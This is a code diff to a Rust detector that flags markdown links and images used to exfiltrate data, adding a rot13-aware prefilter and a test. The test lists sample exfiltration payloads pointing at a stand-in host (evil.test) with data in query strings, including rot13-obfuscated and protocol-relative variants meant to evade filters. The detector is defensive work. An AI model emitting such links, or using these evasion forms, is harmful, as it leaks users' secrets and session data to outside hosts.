@@ -156,6 +156,26 @@ impl Detector for MarkdownExfil {
     fn allowed(&self, hit: &Hit) -> bool {
         remote_host(&hit.value).is_some_and(|h| self.host_allowed(&h))
     }
+
+    /// A hit needs a `]` or `<` (which rot13 keeps) and a remote URL: one
+    /// starting with `http` (`uggc` in the text) or `//`, which rot13 keeps
+    /// and which is protocol-relative only when it does not follow a
+    /// scheme's `:` (a URL follows `(`, `<`, `=`, a quote, a space, or the
+    /// `:` of `[ref]:`).
+    fn rot13_could_match(&self, text: &str) -> bool {
+        let b = text.as_bytes();
+        if memchr::memchr2(b']', b'<', b).is_none() {
+            return false;
+        }
+        let http = memchr::memchr2_iter(b'u', b'U', b).any(|i| {
+            b.get(i..i + 4)
+                .is_some_and(|w| w.eq_ignore_ascii_case(b"uggc"))
+        });
+        http || memchr::memmem::find_iter(b, b"//").any(|i| {
+            let before = |k: usize| i.checked_sub(k).and_then(|j| b.get(j)).copied();
+            before(1) != Some(b':') || before(2) == Some(b']')
+        })
+    }
 }
 
 /// The `no_markdown_exfil` check: `- no_markdown_exfil` or `{allow: [hosts]}`.
@@ -183,6 +203,24 @@ mod tests {
 
     fn found(s: &str) -> Vec<&'static str> {
         kinds(&MarkdownExfil::default(), s)
+    }
+
+    #[test]
+    fn rot13d_urls_are_read_only_when_they_could_be_remote() {
+        let d = MarkdownExfil::default();
+        for plain in [
+            "![logo](https://evil.test/p.png?d=c2VjcmV0)",
+            "[a](HTTP://evil.test/log?session=abc123)",
+            "![x](//evil.test/p.png?d=1)",
+            "[1]://evil.test/i.png?q=the+user",
+            "<img src=//evil.test/i.png?q=1>",
+        ] {
+            let rot = super::super::decode::rot13(plain);
+            // Found rot13'd, or as it is (a `//` URL stays remote).
+            assert!(d.rot13_could_match(&rot), "{plain}");
+            assert!(!scan(&d, &rot).findings.is_empty(), "{plain}");
+        }
+        assert!(!d.rot13_could_match("[your orders](https://shop.acme.test/orders)"));
     }
 
     #[test]
